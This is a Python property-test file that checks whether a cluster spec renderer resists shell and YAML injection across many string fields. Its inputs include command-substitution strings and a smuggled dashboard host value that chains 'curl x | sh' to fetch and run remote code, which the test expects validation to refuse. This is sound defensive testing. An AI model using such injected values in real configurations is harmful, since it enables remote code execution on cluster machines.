"""Property test: shell and YAML metacharacters in any string field of a cluster spec never inject.

For every string field of the shipped aws and kubernetes specs, a value full of shell and YAML
metacharacters either fails validation with a one-line ConfigError, or renders so that
``shlex.split`` of each shell command gives exactly the intended argument list and the YAML
text parses back to exactly the rendered document (no key, list item or document added).
"""

from __future__ import annotations

import copy
import shlex
from pathlib import Path

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from rayworks.cluster import kuberay, rayup, render
from rayworks.config.cluster import ClusterSpec
from rayworks.config.base import validate_model
from rayworks.errors import ConfigError

REPO = Path(__file__).resolve().parents[2]
META = list(";|&$`'\"\\\n\t #:{}[]*!<>()~,%@=-?") + ["$(id)", "`id`", "${HOME}", "\r\n", "\u2028", "--- ", "&a ", "*a"]
# Every string field of a spec (dotted; `[0]` is the first item of a list, `{}` a new dict key).
FIELDS = ["name", "ray_version", "python_version", "provider.region", "provider.availability_zone",
          "provider.project_id", "provider.namespace", "head.instance_type", "head.accelerator_type",
          "head.resources{}", "worker_groups[0].name", "worker_groups[0].instance_type", "storage.uri",
          "runtime_env.pip[0]", "runtime_env.image", "runtime_env.env_vars{}", "runtime_env.env_vars.X",
          "runtime_env.secret_env_vars[0]", "auth.token_path", "auth.k8s_secret_name", "dashboard.host",
          "metrics.prometheus_url", "metrics.grafana_url", "serve.host", "local.temp_dir"]

values = st.lists(st.one_of(st.sampled_from(META), st.text(alphabet="abcXYZ019./", min_size=1, max_size=4)),
                  min_size=1, max_size=6).map("".join)


def base(name: str) -> dict:
    return yaml.safe_load((REPO / "cluster" / f"{name}.yaml").read_text())


def put(d: dict, dotted: str, value: str) -> dict:
    d = copy.deepcopy(d)
    *parents, last = dotted.split(".")
    node = d
    for part in parents:
        key, _, idx = part.partition("[")
        node = node.setdefault(key, {})
        if idx:
            node = node[int(idx[:-1])]
    if last.endswith("{}"):
        node.setdefault(last[:-2], {})[value] = "1" if "env" in last else 1.0
    elif last.endswith("[0]"):
        node.setdefault(last[:-3], [""])[0] = value
    else:
        node[last] = value
    return d


def load(d: dict) -> ClusterSpec | None:
    try:
        return validate_model(ClusterSpec, d, "spec.yaml")
    except ConfigError as exc:
        assert "\n" not in str(exc)
        return None


def assert_yaml_round_trips(doc: dict) -> None:
    text = render.to_yaml(doc, ["header"])
    docs = list(yaml.safe_load_all(text))
    assert docs == [doc]


def check_ray_up(spec: ClusterSpec) -> None:
    try:
        cfg = rayup.render_ray_up(spec)
    except ConfigError:
        return
    assert_yaml_round_trips(cfg)
    head, worker = cfg["head_start_ray_commands"][-1], cfg["worker_start_ray_commands"][-1]
    assert shlex.split(head) == ["ulimit", "-n", "65536;"] + rayup.start_args(spec, True)
    args = rayup.start_args(spec, False)
    at = args.index("start") + 1
    assert shlex.split(worker) == ["ulimit", "-n", "65536;"] + args[:at] + ["--address=$RAY_HEAD_IP:6379"] + args[at:]
    assert f"--dashboard-host={spec.dashboard.host}" in shlex.split(head)
    if spec.metrics.prometheus_url:
        assert f"RAY_PROMETHEUS_HOST={spec.metrics.prometheus_url}" in shlex.split(head)
    setup = [shlex.split(c) for c in cfg["setup_commands"]]
    assert sorted(a for c in setup for a in c[2:]) == sorted(spec.runtime_env.pip)
    assert all(c[:2] == ["pip", "install"] for c in setup)


def check_kuberay(spec: ClusterSpec) -> None:
    try:
        docs = [kuberay.raycluster(spec), kuberay.networkpolicy(spec),
                kuberay.rayjob(spec, "j", "python jobs/train.py", {"env_vars": dict(spec.runtime_env.env_vars)})]
    except ConfigError:
        return
    for doc in docs:
        assert_yaml_round_trips(doc)
    head = docs[0]["spec"]["headGroupSpec"]
    assert head["rayStartParams"]["dashboard-host"] == spec.dashboard.host
    env = {e["name"]: e.get("value") for e in head["template"]["spec"]["containers"][0].get("env", [])}
    assert {k: env[k] for k in spec.runtime_env.env_vars} == spec.runtime_env.env_vars
    assert yaml.safe_load(docs[2]["spec"]["runtimeEnvYAML"]) == {"env_vars": dict(spec.runtime_env.env_vars)}


@pytest.mark.parametrize("name,check", [("aws", check_ray_up), ("kubernetes", check_kuberay)])
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(field=st.sampled_from(FIELDS), value=values)
def test_metacharacters_never_inject(name, check, field, value):
    spec = load(put(base(name), field, value))
    if spec is not None:
        check(spec)


def test_the_reported_injection_is_refused():
    d = put(base("aws"), "dashboard.host", "127.0.0.1; curl x | sh; echo")
    with pytest.raises(ConfigError, match="dashboard.host.*not an IP address or host name"):
        validate_model(ClusterSpec, d, "spec.yaml")
